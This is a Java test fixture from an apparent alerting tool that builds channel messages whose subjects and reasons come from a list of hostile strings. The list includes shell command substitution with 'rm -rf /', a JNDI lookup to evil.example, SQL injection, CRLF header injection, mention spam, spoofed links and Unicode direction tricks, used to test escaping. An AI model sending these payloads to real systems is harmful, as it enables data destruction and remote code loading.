package dev.vigie.channel;

import dev.vigie.alert.Change;
import dev.vigie.alert.Message;
import dev.vigie.alert.Notice;
import dev.vigie.probe.Check;
import dev.vigie.probe.Finding;
import dev.vigie.probe.Health;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Messages of all sizes, and with names that mean harm. */
public final class Messages {
  /** The time of all of them. */
  static final Instant NOON = Instant.parse("2026-11-23T12:00:00Z");

  /**
   * What somebody might call a database to be noticed, to look like another, or to break a form.
   */
  static final List<String> HOSTILE =
      List.of(
          "@everyone @here <!channel> <!here> <@U123456> <#C123> <at>ana</at>",
          "*bold* _it_ ~no~ `code` **b** __u__ ||spoiler|| > quote # head - item",
          "[click](https://evil.example/) <https://evil.example/|safe> https://evil.example/",
          "$(rm -rf /) `id` ${jndi:ldap://evil.example/x} '; drop table x; --",
          "line\r\nSubject: forged\n\n.\u0000\u0007\u001b[31mred\u2028next\u2029\t",
          "\u202egnp.exe\u200b\u2066 \ufeff&amp;<b onload=\"x\">\"quoted\" \\back\\slash",
          "ü".repeat(31) + "!",
          "\ud83d\ude00".repeat(15) + "abc",
          "\ud83d lone",
          "&".repeat(160));

  private Messages() {}

  /** A message that tries the channel. */
  static Message test() {
    return message(List.of(), Set.of());
  }

  /** A message with so many changes, of all kinds and checks, with the hostile names. */
  static Message of(int count) {
    Check[] checks = Check.values();
    Change[] changes = Change.values();
    List<Notice> notices =
        IntStream.range(0, count)
            .mapToObj(
                i ->
                    notice(
                        changes[i % changes.length],
                        checks[i % checks.length],
                        HOSTILE.get(i % HOSTILE.size()) + i,
                        HOSTILE.get((i + 3) % HOSTILE.size())))
            .collect(Collectors.toCollection(ArrayList::new));
    Collections.sort(notices, (one, two) -> Boolean.compare(two.isTrouble(), one.isTrouble()));
    return message(notices, Set.of(checks));
  }

  /** One change. */
  static Notice notice(Change change, Check check, String subject, String reason) {
    boolean over = change == Change.RECOVERED;
    return new Notice(
        change,
        new Finding(check, subject, over ? Health.OK : Health.FAIL, reason),
        Health.FAIL,
        NOON.minusSeconds(600),
        Set.of());
  }

  /** A message of these changes. */
  static Message message(List<Notice> notices, Set<Check> open) {
    return new Message(
        "rm1abc",
        NOON,
        "quickdata-staging",
        notices,
        open,
        List.of(),
        Optional.of("https://git.example.org/vigie/docs/runbooks"),
        Optional.of("https://status.example.org/report/index.html"));
  }
}
